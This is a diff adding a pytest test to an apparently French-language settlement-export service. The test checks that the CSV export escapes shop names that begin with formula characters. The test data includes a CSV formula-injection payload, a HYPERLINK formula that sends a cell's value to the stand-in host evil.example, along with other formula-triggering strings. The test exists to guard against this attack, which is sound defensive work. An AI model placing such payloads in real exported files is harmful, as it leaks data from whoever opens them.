@@ -135,3 +135,24 @@ def test_csv_export_refusals_are_french(api, client, two_orders, auth, query, st
     assert response.status_code == status
     assert "csv" not in response["Content-Type"]
     assert any(word in response.content.decode() for word in ("accès", "reconnectez", "AAAA-MM-JJ"))
+
+
+def test_csv_export_never_turns_a_shop_name_into_a_formula(api, client, two_orders):
+    shops, first, second = two_orders
+    (a, _), (b, _), (c, _) = shops
+    a.name, b.name, c.name = '=HYPERLINK("http://evil.example/?d="&E2,"Payer")', "\t-1+1", "@SUM(1,2)"
+    for shop in (a, b, c):
+        shop.save(update_fields=["name"])
+    operator = api.login(OPERATOR)
+    response = client.get("/exports/merchant-settlements.csv", HTTP_AUTHORIZATION=f"JWT {operator.token}")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:]), delimiter=";"))
+    assert sorted(row[2] for row in rows[1:]) == sorted([
+        '\'=HYPERLINK("http://evil.example/?d="&E2,"Payer")',
+        '\'=HYPERLINK("http://evil.example/?d="&E2,"Payer")',
+        "'\t-1+1",
+        "'@SUM(1,2)",
+    ])
+    # Amounts stay bare numbers a spreadsheet can add up.
+    first_a = next(row for row in rows[1:] if row[1] == str(first.pk) and "HYPERLINK" in row[2])
+    assert first_a[4:] == ["10,00", "0,17", "9,83", "10 %", "0,98", "8,85"]
